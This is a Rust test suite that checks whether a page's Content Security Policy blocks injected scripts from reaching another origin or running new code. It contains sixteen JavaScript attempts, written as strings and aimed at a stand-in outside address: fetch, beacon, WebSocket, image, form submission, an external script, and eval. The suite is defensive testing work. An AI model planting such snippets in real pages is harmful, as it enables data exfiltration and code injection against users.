//! The page's policy: even a script that got in could send nothing out and run nothing new.

use std::collections::BTreeMap;

use serde_json::json;

use crate::{
    page::Page,
    site::{Place, Site},
};

/// What a hostile script would try, how the browser names the rule against it, and the attempt,
/// with `elsewhere` as the address of somebody else.
const ATTEMPTS: [(&str, &str, &str); 16] = [
    (
        "fetch",
        "connect-src",
        "fetch(elsewhere + 'fetch').catch(() => {})",
    ),
    (
        "XMLHttpRequest",
        "connect-src",
        "const ask = new XMLHttpRequest(); ask.open('GET', elsewhere + 'xhr'); ask.send()",
    ),
    (
        "beacon",
        "connect-src",
        "navigator.sendBeacon(elsewhere + 'beacon', 'Fatima')",
    ),
    (
        "WebSocket",
        "connect-src",
        "new WebSocket(elsewhere.replace('http', 'ws') + 'socket')",
    ),
    (
        "EventSource",
        "connect-src",
        "new EventSource(elsewhere + 'events')",
    ),
    ("image", "img-src", "new Image().src = elsewhere + 'image'"),
    (
        "media",
        "media-src",
        "new Audio(elsewhere + 'media').load()",
    ),
    (
        "font",
        "font-src",
        "new FontFace('f', `url(${elsewhere}font)`).load().catch(() => {})",
    ),
    (
        "frame",
        "frame-src",
        "add('iframe', { src: elsewhere + 'frame' })",
    ),
    (
        "object",
        "object-src",
        "add('object', { data: elsewhere + 'object' })",
    ),
    (
        "style sheet",
        "style-src-elem",
        "add('link', { rel: 'stylesheet', href: elsewhere + 'style' })",
    ),
    (
        "style in the page",
        "style-src-elem",
        "add('style', { textContent: 'body { color: red }' })",
    ),
    (
        "script",
        "script-src-elem",
        "add('script', { src: elsewhere + 'script' })",
    ),
    (
        "script in the page",
        "script-src-elem",
        "add('script', { textContent: 'window.ran = 1' })",
    ),
    (
        "form",
        "form-action",
        "const form = add('form', { action: elsewhere + 'form', method: 'post', target: 'other' }); form.submit()",
    ),
    ("eval", "script-src", "(0, eval)('window.ran = 1')"),
];

/// Does one attempt and tells which rules the browser invoked within the time given. The attempt
/// runs from a timer, as a script of the page does: the driver's own scripts stand above the policy.
const ATTEMPT: &str = "
    const [attempt, elsewhere, time, done] = arguments;
    const add = (name, given) =>
        document.body.appendChild(Object.assign(document.createElement(name), given));
    const attempts = ATTEMPTS;
    const invoked = [];
    const note = (event) => invoked.push(event.effectiveDirective);
    document.addEventListener('securitypolicyviolation', note);
    setTimeout(() => {
        // Some attempts throw as well: that they are refused is what counts.
        try { attempts[attempt](); } catch (refused) {}
        const start = performance.now();
        const look = () => {
            if (!invoked.length && performance.now() - start < time) return setTimeout(look, 10);
            document.removeEventListener('securitypolicyviolation', note);
            done(invoked.join(' '));
        };
        look();
    });";

/// Makes every attempt and gives the rules that the browser invoked against each, waiting that
/// many milliseconds for it to do so.
#[track_caller]
fn try_everything(page: &Page, elsewhere: &Site, time: u32) -> BTreeMap<&'static str, String> {
    let functions = ATTEMPTS.map(|(name, _, attempt)| format!("{name:?}: () => {{ {attempt}; }}"));
    let script = ATTEMPT.replace("ATTEMPTS", &format!("{{ {} }}", functions.join(",\n")));
    let attempt = |(name, ..): (&'static str, &str, &str)| {
        let arguments = vec![json!(name), json!(elsewhere.address), json!(time)];
        (name, page.ask_later(&script, arguments))
    };
    ATTEMPTS.map(attempt).into()
}

/// Whether text that was given to the page ran as a script.
#[track_caller]
fn ran(page: &Page) -> bool {
    page.ask("return 'ran' in window", vec![])
}

#[track_caller]
fn check(place: Place) {
    let empty = tempfile::tempdir().expect("the temporary folder can be written");
    let elsewhere = Site::served(empty.path(), "");
    let page = Page::open(place);
    let invoked = try_everything(&page, &elsewhere, 5000);
    for (name, rule, _) in ATTEMPTS {
        assert_eq!(invoked[name], rule, "the rule against: {name}");
    }
    assert_eq!(elsewhere.requests(), [""; 0], "what arrived elsewhere");
    assert!(!ran(&page), "text ran as a script");
    assert_eq!(
        page.address(),
        page.site().address,
        "the page is where it was"
    );
}

#[test]
fn from_the_disk_the_policy_lets_nothing_out_and_nothing_new_run() {
    check(Place::File);
}

#[test]
fn from_a_server_the_policy_lets_nothing_out_and_nothing_new_run() {
    check(Place::Server);
}

#[test]
fn on_a_page_without_a_policy_the_same_attempts_arrive() {
    let folder = tempfile::tempdir().expect("the temporary folder can be written");
    let elsewhere = Site::served(folder.path(), "");
    std::fs::write(
        folder.path().join("index.html"),
        "<!DOCTYPE html><title>Proef</title><body>",
    )
    .expect("the page can be written");
    let page = Page::visit(Site::served(folder.path(), ""));
    let invoked = try_everything(&page, &elsewhere, 50);
    assert_eq!(
        invoked.values().cloned().collect::<String>(),
        "",
        "rules that were invoked"
    );
    assert!(ran(&page), "text did not run as a script");
    for part in [
        "fetch", "xhr", "beacon", "socket", "events", "image", "media", "font", "frame", "object",
        "style", "script", "form",
    ] {
        let arrived = || {
            elsewhere
                .requests()
                .iter()
                .any(|it| it.ends_with(&format!("/{part}")))
        };
        page.wait(&format!("{part} to arrive elsewhere"), arrived);
    }
}
